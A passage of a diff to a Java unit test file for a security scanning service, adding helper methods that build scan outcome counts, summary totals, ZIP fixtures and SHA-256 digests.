+        result.setScanDateTime(scanDateTime);
+        return result;
+    }
+
+    private static ScanResultRepository.OutcomeCount outcomeCount(String verdict, boolean infected,
+            String threatType, long results) {
+        return new ScanResultRepository.OutcomeCount() {
+            public String getVerdict() {
+                return verdict;
+            }
+
+            public boolean isInfected() {
+                return infected;
+            }
+
+            public String getThreatType() {
+                return threatType;
+            }
+
+            public long getResults() {
+                return results;
+            }
+        };
+    }
+
+    private static ScanSummaryRepository.Totals summaryTotals(long scans, long files, long clean,
+            long storedResults, long storedClean) {
+        return new ScanSummaryRepository.Totals() {
+            public long getScans() {
+                return scans;
+            }
+
+            public long getFilesScanned() {
+                return files;
+            }
+
+            public long getBytesScanned() {
+                return 0;
+            }
+
+            public long getCleanFiles() {
+                return clean;
+            }
+
+            public long getStoredResults() {
+                return storedResults;
+            }
+
+            public long getStoredClean() {
+                return storedClean;
+            }
+        };
+    }
+
     @Test
     void getCurrentSystemScanResults_ShouldReadPersistedChunkFiles() throws Exception {
         Path sessionDir = Files.createTempDirectory(tempDir, "system-scan-session-");
@@ -444,6 +1079,20 @@ class SecurityServiceImplTest {
         setField(securityService, "currentSystemScanSession", session);
     }
 
+    private static void writeZip(Path target, Map<String, String> entries) throws IOException {
+        try (java.util.zip.ZipOutputStream zos = new java.util.zip.ZipOutputStream(Files.newOutputStream(target))) {
+            for (Map.Entry<String, String> entry : entries.entrySet()) {
+                zos.putNextEntry(new java.util.zip.ZipEntry(entry.getKey()));
+                zos.write(entry.getValue().getBytes(java.nio.charset.StandardCharsets.UTF_8));
+                zos.closeEntry();
+            }
+        }
+    }
+
+    private static byte[] sha256(byte[] content) throws Exception {
+        return java.security.MessageDigest.getInstance("SHA-256").digest(content);
+    }
+
     private static void setField(Object target, String fieldName, Object value) throws Exception {
         java.lang.reflect.Field field = target.getClass().getDeclaredField(fieldName);
         field.setAccessible(true);